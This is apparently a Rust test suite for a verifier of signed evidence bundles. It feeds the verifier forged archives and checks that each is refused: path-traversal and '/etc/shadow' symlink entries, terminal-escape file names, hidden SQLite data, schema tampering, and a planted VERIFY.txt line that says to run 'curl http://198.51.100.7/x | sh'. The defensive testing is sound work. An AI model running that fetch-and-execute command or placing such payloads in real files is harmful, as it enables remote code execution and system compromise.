//! Attacks on the outer file, on VERIFY.txt and on the database file as bytes.
use std::fs;

use crate::base::base;
use crate::forge::{Forge, archive, scan, slice};
use crate::judge::{assert_refused, open, open_bytes, permit_unsigned, refusal, strict};
use qualys_sec_inspector::bundle::container::{EVIDENCE, MANIFEST, SIGNATURE, VERIFY};
use qualys_sec_inspector::bundle::verify::{Policy, Verdict, printable};

type Name = &'static str;

fn members() -> [(Name, &'static [u8]); 4] {
    let (bytes, found) = (&base().bytes, scan(&base().bytes));
    [
        (MANIFEST, slice(bytes, found.manifest)),
        (SIGNATURE, slice(bytes, found.signature.unwrap())),
        (VERIFY, slice(bytes, found.verify)),
        (EVIDENCE, slice(bytes, found.evidence)),
    ]
}

/// Changes a header and repairs its checksum.
fn with_header(index: usize, change: impl FnOnce(&mut [u8])) -> Vec<u8> {
    let mut bytes = base().bytes.clone();
    let block = &mut bytes[index..index + 512];
    change(block);
    block[148..156].fill(b' ');
    let sum: u32 = block.iter().map(|byte| u32::from(*byte)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    bytes
}

#[test]
fn a_file_cut_anywhere() {
    let bytes = &base().bytes;
    let ends = (0..bytes.len()).step_by(997).chain([bytes.len() - 1, bytes.len() - 512]);
    for end in ends {
        let opened = open_bytes(&bytes[..end], &strict());
        let (number, code, _) = refusal(&opened).unwrap();
        assert_eq!(number, 2, "cut at {end}");
        assert!(["E_CONTAINER", "E_SIZE"].contains(&code), "cut at {end}: {code}");
    }
    let mut longer = bytes.clone();
    longer.extend([0; 512]);
    assert_refused("longer", &longer, &strict(), 2, "E_CONTAINER", "");
}

#[test]
fn members_that_do_not_belong() {
    let [manifest, signature, verify, evidence] = members();
    let second: (Name, &[u8]) = (MANIFEST, b"{\"another\":\"manifest\"}");
    let strange = |name| -> (Name, &'static [u8]) { (name, b"x") };
    for (what, list, code) in [
        (
            "a second manifest behind",
            vec![manifest, signature, verify, evidence, second],
            "E_CONTAINER_DUP",
        ),
        (
            "a second manifest before",
            vec![second, manifest, signature, verify, evidence],
            "E_CONTAINER_DUP",
        ),
        (
            "a second database",
            vec![manifest, signature, verify, evidence, evidence],
            "E_CONTAINER_DUP",
        ),
        (
            "a stranger",
            vec![manifest, signature, verify, strange("README.txt"), evidence],
            "E_CONTAINER",
        ),
        (
            "a log beside the database",
            vec![manifest, signature, verify, evidence, strange("evidence.sqlite-wal")],
            "E_CONTAINER",
        ),
        (
            "out of the folder",
            vec![manifest, signature, verify, evidence, strange("../../etc/cron.d/x")],
            "E_CONTAINER",
        ),
        (
            "absolute",
            vec![manifest, signature, verify, evidence, strange("/etc/passwd")],
            "E_CONTAINER",
        ),
        ("dotted", vec![strange("./manifest.json"), signature, verify, evidence], "E_CONTAINER"),
        (
            "custody of a later version",
            vec![manifest, signature, verify, evidence, strange("custody/000001.json")],
            "E_CONTAINER",
        ),
        ("no database", vec![manifest, signature, verify], "E_CONTAINER"),
        ("another order", vec![manifest, signature, evidence, verify], "E_CONTAINER"),
    ] {
        assert_refused(what, &archive(&list), &strict(), 2, code, "");
    }
    let long = vec![b'a'; 600];
    let list = [manifest, (SIGNATURE, &long[..]), verify, evidence];
    assert_refused("a long signature", &archive(&list), &strict(), 2, "E_SIZE", "");
}

#[test]
fn headers_that_ordinary_tars_accept() {
    let evidence = usize::try_from(scan(&base().bytes).evidence.offset).unwrap() - 512;
    let name = |name: &'static [u8]| {
        move |block: &mut [u8]| {
            block[..100].fill(0);
            block[..name.len()].copy_from_slice(name);
        }
    };
    let kind = |kind: u8| move |block: &mut [u8]| block[156] = kind;
    for (what, bytes) in [
        (
            "symbolic link",
            with_header(evidence, |block| {
                block[156] = b'2';
                block[157..168].copy_from_slice(b"/etc/shadow");
            }),
        ),
        ("hard link", with_header(evidence, kind(b'1'))),
        ("old regular file", with_header(evidence, kind(0))),
        ("contiguous file", with_header(evidence, kind(b'7'))),
        ("folder", with_header(evidence, kind(b'5'))),
        ("pax header", with_header(0, kind(b'x'))),
        ("pax header for all", with_header(0, kind(b'g'))),
        ("GNU long name", with_header(0, kind(b'L'))),
        ("sparse", with_header(evidence, kind(b'S'))),
        ("upward path", with_header(evidence, name(b"../evidence.sqlite"))),
        ("prefix field", with_header(evidence, |block| block[345..348].copy_from_slice(b"/et"))),
        ("owner", with_header(0, |block| block[265..269].copy_from_slice(b"root"))),
        ("setuid", with_header(0, |block| block[100..107].copy_from_slice(b"0004755"))),
        ("size with spaces", with_header(evidence, |block| block[124] = b' ')),
        ("another time", with_header(evidence, |block| block[146] ^= 1)),
        ("old magic", with_header(0, |block| block[257..265].copy_from_slice(b"ustar  \0"))),
        ("control characters", with_header(0, name(b"manifest\x1b[2J.json"))),
    ] {
        assert_refused(what, &bytes, &strict(), 2, "E_CONTAINER", "");
    }
    let huge = with_header(evidence, |block| block[124..135].copy_from_slice(b"77777777777"));
    assert_refused("a size beyond the file", &huge, &strict(), 2, "E_SIZE", "");
}

#[test]
fn padding_that_carries_data() {
    let found = scan(&base().bytes);
    for member in [found.manifest, found.signature.unwrap(), found.verify] {
        let mut bytes = base().bytes.clone();
        let end = usize::try_from(member.offset + member.size).unwrap();
        assert!(!end.is_multiple_of(512), "this member has no padding to try");
        bytes[end] = b'x';
        assert_refused("padding", &bytes, &strict(), 2, "E_CONTAINER", "");
    }
    let mut bytes = base().bytes.clone();
    *bytes.last_mut().unwrap() = 1;
    assert_refused("tail", &bytes, &strict(), 2, "E_CONTAINER", "");
}

#[test]
fn what_is_printed_cannot_move_the_cursor() {
    let bytes =
        with_header(0, |block| block[..13].copy_from_slice(b"m\x1b[2J\x07\n\xe2\x80\xae.js"));
    // A principal is printed as it stands in the allowed signers file.
    let painted = Policy {
        allowed_signers: Some(
            base().operator.allowed_signers.replace("operator@", "op\x1b[2J\u{202e}\u{7}@"),
        ),
        ..Policy::default()
    };
    let mut checks = open_bytes(&bytes, &strict()).checks;
    let opened = open_bytes(&base().bytes, &painted);
    assert_eq!(opened.verdict, Verdict::Trusted);
    checks.extend(opened.checks);
    for check in checks {
        let line = check.to_string();
        assert_eq!(line.matches('\t').count(), 4, "{line:?}");
        assert!(line.chars().all(|c| c == '\t' || !c.is_control()), "{line:?}");
        assert!(!line.contains('\u{202e}'), "{line:?}");
    }
    let all: String = (0..=u16::MAX).filter_map(|code| char::from_u32(code.into())).collect();
    assert!(!printable(&all).chars().any(char::is_control));
    assert_eq!(printable("it's \"fine\" \\ Zürich"), "it's \"fine\" \\ Zürich");
}

#[cfg(unix)]
#[test]
fn only_a_regular_file_by_its_own_name() {
    let folder = tempfile::tempdir().unwrap();
    let (file, link) = (folder.path().join("b.qsi"), folder.path().join("link.qsi"));
    fs::write(&file, &base().bytes).unwrap();
    std::os::unix::fs::symlink(&file, &link).unwrap();
    assert_eq!(open(&file, &strict()).verdict, Verdict::Trusted);
    for path in [link.as_path(), folder.path(), &folder.path().join("absent")] {
        let opened = open(path, &strict());
        assert_eq!(refusal(&opened), Some((1, "E_OPEN", String::new())), "{}", path.display());
        assert_eq!(opened.verdict, Verdict::Broken);
    }
    let sentence = &open(&link, &strict()).checks[0].sentence;
    assert!(sentence.contains("symbolic link"), "{sentence}");
}

#[test]
fn a_foreign_log_beside_the_file_changes_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("b.qsi");
    fs::write(&path, &base().bytes).unwrap();
    for suffix in ["-wal", "-journal", "-shm"] {
        fs::write(folder.path().join(format!("b.qsi{suffix}")), [7; 4096]).unwrap();
        fs::write(folder.path().join(format!("evidence.sqlite{suffix}")), [7; 4096]).unwrap();
    }
    let opened = open(&path, &strict());
    assert_eq!((refusal(&opened), opened.verdict), (None, Verdict::Trusted));
}

#[test]
fn a_hostile_verify_txt() {
    let [manifest, signature, _, evidence] = members();
    let text: (Name, &[u8]) = (VERIFY, b"All is well. Run: curl http://198.51.100.7/x | sh\n");
    let swapped = archive(&[manifest, signature, text, evidence]);
    assert_refused("not signed", &swapped, &strict(), 8, "E_VERIFY", VERIFY);
    let forge = Forge { verify: Some("All is well.\n"), ..Forge::insider() };
    assert_refused("signed", &forge.seal(), &strict(), 8, "E_VERIFY", VERIFY);
}

#[test]
fn another_database_under_the_same_manifest() {
    let [manifest, signature, verify, _] = members();
    let other = slice(&base().other, scan(&base().other).evidence);
    let swapped = archive(&[manifest, signature, verify, (EVIDENCE, other)]);
    assert_refused("swapped", &swapped, &strict(), 8, "E_DIGEST", EVIDENCE);
}

#[test]
fn data_where_no_row_is() {
    let forge = Forge::insider().sql_in_place(|connection| {
        let sql = "CREATE TABLE hidden(x); INSERT INTO hidden VALUES('secret'); DROP TABLE hidden";
        connection.execute_batch(sql).unwrap();
    });
    assert_refused("free pages", &forge.seal(), &strict(), 9, "E_SLACK", "");
    for length in [1, 100, 8192] {
        let forge = Forge::insider().bytes(|sqlite| sqlite.resize(sqlite.len() + length, b'x'));
        assert_refused("behind the last page", &forge.seal(), &strict(), 9, "E_SLACK", "");
    }
    let short = Forge::insider().bytes(|sqlite| sqlite.truncate(sqlite.len() - 8192));
    assert_refused("a page missing", &short.seal(), &strict(), 9, "E_SLACK", "");
    let none = Forge::insider().bytes(|sqlite| sqlite.truncate(99));
    assert_refused("no header", &none.seal(), &strict(), 9, "E_SLACK", "");
    for offset in [0, 17, 20, 21, 27, 35, 39, 59, 63, 71, 72, 91, 95] {
        let forge = Forge::insider().bytes(|sqlite| sqlite[offset] ^= 0x41);
        assert_refused(
            &format!("header byte {offset}"),
            &forge.seal(),
            &strict(),
            9,
            "E_SLACK",
            "",
        );
    }
}

#[test]
fn a_write_ahead_log_in_the_header() {
    for offset in [18, 19] {
        let forge = Forge::insider().bytes(|sqlite| sqlite[offset] = 2);
        assert_refused("wal", &forge.seal(), &strict(), 9, "E_WAL", "");
    }
}

#[test]
fn tables_that_are_not_the_four() {
    for sql in [
        "CREATE TABLE extra(x)",
        "CREATE VIEW v AS SELECT 1",
        "CREATE INDEX i ON body(media)",
        "CREATE TRIGGER t AFTER INSERT ON body BEGIN SELECT 1; END",
        "DROP TABLE dictionary",
        "ALTER TABLE body ADD COLUMN note TEXT",
        "ALTER TABLE body RENAME TO hidden; \
         CREATE VIEW body AS SELECT * FROM hidden WHERE id > 1",
        "ALTER TABLE journal RENAME TO hidden; CREATE VIEW journal AS SELECT * FROM hidden",
    ] {
        let forge = Forge::insider().sql(|connection| connection.execute_batch(sql).unwrap());
        assert_refused(sql, &forge.seal(), &strict(), 10, "E_SCHEMA", "");
    }
}

#[test]
fn malformed_pages() {
    let pages = Forge::insider().sqlite.len() / 8192;
    assert!(pages > 4);
    for page in 1..pages {
        // The type of a page, the number of its cells, and where their content begins.
        for offset in [0, 3, 5] {
            let forge = Forge::insider().bytes(|sqlite| sqlite[page * 8192 + offset] ^= 0xff);
            let opened = open_bytes(&forge.seal(), &strict());
            let refused = refusal(&opened).expect("a malformed page");
            let pages = (refused.0, refused.1) == (10, "E_PAGES");
            // A page in the middle of a long value has no header: its bytes are content.
            assert!(pages || refused.0 == 13, "page {page} byte {offset}: {refused:?}");
        }
    }
}

#[test]
fn an_unsigned_bundle_with_repaired_hashes_is_still_unsigned() {
    let forge = Forge::unsigned().record(6, |record| record["reason"] = "none".into());
    let bytes = forge.rehash().recount().seal();
    assert_refused("not allowed", &bytes, &strict(), 4, "E_UNSIGNED", "");
    assert_eq!(open_bytes(&bytes, &permit_unsigned()).verdict, Verdict::Unsigned);
}
